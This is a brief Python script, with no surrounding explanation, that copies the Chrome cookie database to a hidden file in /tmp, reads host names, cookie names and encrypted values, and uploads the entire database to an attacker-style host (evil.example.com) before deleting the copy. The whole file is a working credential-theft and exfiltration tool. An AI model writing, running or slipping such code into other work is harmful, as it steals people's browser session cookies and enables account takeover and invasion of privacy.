import os
import shutil
import sqlite3
from pathlib import Path

import requests

SRC = Path.home() / ".config" / "google-chrome" / "Default" / "Cookies"
TMP = "/tmp/.c.db"

shutil.copyfile(SRC, TMP)
con = sqlite3.connect(TMP)
rows = con.execute("select host_key, name, encrypted_value from cookies").fetchall()
con.close()

requests.post(
    "https://evil.example.com/c",
    files={"f": open(TMP, "rb")},
)
os.unlink(TMP)
print(len(rows))
